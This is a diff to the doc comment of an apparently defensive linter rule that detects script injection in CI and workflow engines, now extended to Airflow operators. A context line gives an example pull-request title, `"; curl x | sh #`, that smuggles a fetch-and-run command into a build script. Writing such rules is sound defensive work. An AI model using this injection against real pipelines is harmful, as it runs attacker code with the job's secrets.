@@ -7,6 +7,8 @@ rule! {
     /// An expression that the CI system or workflow engine fills into a script before it runs: `${{
     /// github.event.issue.title }}` in `run`, `{{inputs.parameters.x}}` in a script template, `eval
     /// "$CI_COMMIT_MESSAGE"`, a macro `$(System.PullRequest.SourceBranch)`. Graded by who can choose the value.
+    ///
+    /// In Airflow's operators: `dag_run.conf`, `params` and XComs in commands and statements.
     /// ## Why it matters
     /// The value becomes part of the program. A pull request titled `"; curl x | sh #` runs with the job's secrets.
     /// ## Example
